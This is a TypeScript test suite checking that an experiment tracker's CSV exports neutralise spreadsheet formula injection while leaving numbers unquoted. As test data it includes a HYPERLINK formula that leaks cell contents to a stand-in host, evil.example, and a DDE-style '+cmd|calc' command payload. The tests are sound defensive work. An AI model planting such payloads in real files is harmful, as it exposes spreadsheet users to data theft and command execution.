// CSV exports opened in a spreadsheet: a text cell that starts a formula (=, +, -, @, tab, carriage
// return) is exported with a leading single quote (OWASP), in every CSV kind; numbers stay numbers.
import { PassThrough, type Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { csvText, writeEventsCsv, writeHistoriesCsv, writeRunsCsv, writeSummary } from '../../src/main/services/export';
import { mustParseRunConfig } from '../../src/shared/config';
import { armRunConfig, planExperiment } from '../../src/shared/experiments';
import { Store } from '../../src/store/store';
import { tmpDataDir } from '../helpers/tmp';
import { BUILTIN_FACTS } from '../../src/shared/models/datasets';

let tmp: ReturnType<typeof tmpDataDir>;
let store: Store;
beforeEach(() => {
  tmp = tmpDataDir('tb-csv-');
  store = new Store(tmp.dir);
});
afterEach(() => {
  store.close();
  tmp.cleanup();
});

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const T0 = 1_763_845_200_000;

async function csvOf(write: (out: Writable) => Promise<unknown>): Promise<{ text: string; rows: Record<string, string>[] }> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await write(out);
  const text = Buffer.concat(chunks).toString();
  return { text, rows: parse(text, { columns: true }) as Record<string, string>[] };
}

/** A completed run with a final train/loss of -0.5. */
function finishedRun(name: string, config = mustParseRunConfig({ name }, BUILTIN_FACTS)) {
  const r = store.createRun(config, 'running', name);
  store.addMetrics(r.id, [
    { key: 'train/loss', step: 1, epoch: 1, value: -0.5, time: T0 },
    { key: 'val/acc', step: 1, epoch: 1, value: 0.25, time: T0 },
  ]);
  store.finishRun(r.id, 'completed');
  return r;
}

describe('CSV formula injection', () => {
  it('csvText quotes formula starts, not plain numbers or ordinary text', () => {
    for (const s of [FORMULA, '+1+1', '-2+3', '@SUM(A1:A2)', '\tx', '\rx', '-', '=']) expect(csvText(s)).toBe(`'${s}`);
    for (const s of ['-0.5', '+3', '-1e-5', '12', 'lr 0.1', '', "'quoted", 'a=b']) expect(csvText(s)).toBe(s);
  });

  it('runs: the run name, its config name and the error are text; a negative metric stays a number', async () => {
    const r = finishedRun(FORMULA);
    const failed = store.createRun(mustParseRunConfig({ name: '@cmd' }, BUILTIN_FACTS), 'running', '@cmd');
    store.finishRun(failed.id, 'failed', '-failed: =1+1');
    const { text, rows } = await csvOf((out) => writeRunsCsv(store, [r.id, failed.id], out));
    const byId = new Map(rows.map((x) => [Number(x.id), x]));
    expect(byId.get(r.id)).toMatchObject({ name: `'${FORMULA}`, 'config.name': `'${FORMULA}`, final_train_loss: '-0.5', final_val_acc: '0.25', error: '' });
    expect(byId.get(failed.id)).toMatchObject({ name: "'@cmd", 'config.name': "'@cmd", error: "'-failed: =1+1" });
    expect(text).toContain(',-0.5,'); // unquoted: a number, not text
    expect(text).not.toContain("'-0.5");
  });

  it('histories: run name and metric key are text; values stay numbers', async () => {
    const r = store.createRun(mustParseRunConfig({}, BUILTIN_FACTS), 'running', '+cmd|calc');
    store.addMetrics(r.id, [{ key: '=1+2', step: 1, epoch: 1, value: -0.5, time: T0 }]);
    const { text, rows } = await csvOf((out) => writeHistoriesCsv(store, [r.id], out));
    // outside an experiment: experiment and arm empty, the run's seed still there
    expect(rows).toEqual([{ run_id: String(r.id), run_name: "'+cmd|calc", key: "'=1+2", step: '1', epoch: '1', value: '-0.5', wall_time: new Date(T0).toISOString(), experiment: '', arm: '', seed: String(r.seed) }]);
    expect(text).toContain(',-0.5,');
  });

  it("histories: a run's experiment and arm names are text; its seed stays a number", async () => {
    const got = store.external.importRun({
      spec: { name: 'ext', seed: -3, experiment: '-exp=1', arm: '@arm', params: {}, clientKey: 'csv-injection-ext' },
      metrics: [{ key: 'val/acc', step: 1, epoch: 1, value: 0.5, time: T0 }],
      status: 'completed',
    });
    const { text, rows } = await csvOf((out) => writeHistoriesCsv(store, [got.runId], out));
    expect(rows).toEqual([{ run_id: String(got.runId), run_name: 'ext', key: 'val/acc', step: '1', epoch: '1', value: '0.5', wall_time: new Date(T0).toISOString(), experiment: "'-exp=1", arm: "'@arm", seed: '-3' }]);
    expect(text).toMatch(/,'@arm,-3\n$/); // the seed unquoted: a number, not text
  });

  it('events: run name and kind are text', async () => {
    const r = store.createRun(mustParseRunConfig({}, BUILTIN_FACTS), 'running', '\tcmd');
    store.addEvent(r.id, { kind: '@evil', epoch: 0, step: 0, payload: { a: 1 }, time: T0 });
    const { rows } = await csvOf((out) => writeEventsCsv(store, [r.id], out));
    expect(rows.find((x) => x.kind === "'@evil")).toMatchObject({ run_name: "'\tcmd", payload: '{"a":1}' });
  });

  it('summary: arm names are text; means, deltas and counts stay numbers', async () => {
    const planned = planExperiment({
      name: 'csv',
      baselineName: '-base',
      baseline: { dataset: { name: 'synthetic', trainSubset: 320, valSplit: 0.2 }, model: { name: 'cnn3', width: 8 }, epochs: 1, batchSize: 32 },
      arms: [{ name: FORMULA.slice(0, 60), set: { 'optimizer.lr': 0.05 } }],
      seeds: [1],
    }, BUILTIN_FACTS);
    if (!planned.ok) throw new Error(JSON.stringify(planned.errors));
    const info = store.experiments.create(planned.plan);
    for (const arm of info.arms) {
      const spec = planned.plan.arms.find((a) => a.name === arm.name)!;
      const r = finishedRun(arm.name, armRunConfig(planned.plan.file, spec, 1, null, BUILTIN_FACTS));
      store.experiments.link(r.id, info.id, arm.id);
    }
    const { text, rows } = await csvOf((out) => writeSummary(store, { kind: 'summary', ids: [], experimentId: info.id, metric: 'train/loss', rule: 'last' }, out));
    expect(rows.map((x) => x.arm)).toEqual(["'-base", `'${FORMULA.slice(0, 60)}`]);
    expect(rows[0]).toMatchObject({ metric: 'train/loss', n: '1', mean: '-0.5' });
    expect(rows[1]).toMatchObject({ mean: '-0.5', delta: '0' });
    expect(text).not.toContain("'-0.5");
  });
});
